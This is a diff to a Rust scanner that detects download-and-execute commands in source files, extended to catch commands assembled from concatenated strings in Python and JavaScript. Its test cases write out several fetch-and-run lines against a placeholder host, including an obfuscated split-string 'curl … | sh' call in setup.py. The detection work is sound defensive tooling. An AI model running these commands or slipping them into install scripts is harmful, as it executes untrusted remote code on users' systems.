@@ -717,7 +717,7 @@ fn fetched_and_run(code: &Code) -> Option<usize> {
             false,
         )
     });
-    if !words.is_match(code.data) {
+    if !words.is_match(code.data) && !code.folded().iter().any(|f| words.is_match(&f.text)) {
         return None;
     }
     let run = RUN.get_or_init(|| {
@@ -732,9 +732,18 @@ fn fetched_and_run(code: &Code) -> Option<usize> {
             true,
         )
     });
-    code.logical_lines()
+    // As written, each continuation joined, and as folded (`"curl …
+    // " + "| sh"` in Python or JavaScript is one command).
+    let written = code
+        .logical_lines()
         .find(|(_, line)| !is_comment_line(line) && run.is_match(line))
-        .map(|(n, _)| n)
+        .map(|(n, _)| n);
+    let folded = code
+        .folded()
+        .iter()
+        .find(|f| !is_comment_line(f.line) && run.is_match(&f.text))
+        .map(|f| f.n);
+    written.into_iter().chain(folded).min()
 }
 
 /// [`first_unread_run_in`] for Python and JavaScript, by their own
@@ -828,6 +837,7 @@ mod tests {
             ("install.ps1", "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression"),
             ("lib/a.js", "execSync('curl -s https://x.example/i | /bin/bash');"),
             ("ci.sh", "curl -fsSL https://x.example/i.sh \\\n  --retry 3 \\\n  | sh"),
+            ("setup.py", "subprocess.run('cu' + 'rl -s https://x.example/i ' + '| s' + 'h', shell=True)"),
         ] {
             assert_eq!(first_unread_run(path, code.as_bytes()), Some(1), "{path}: {code}");
         }
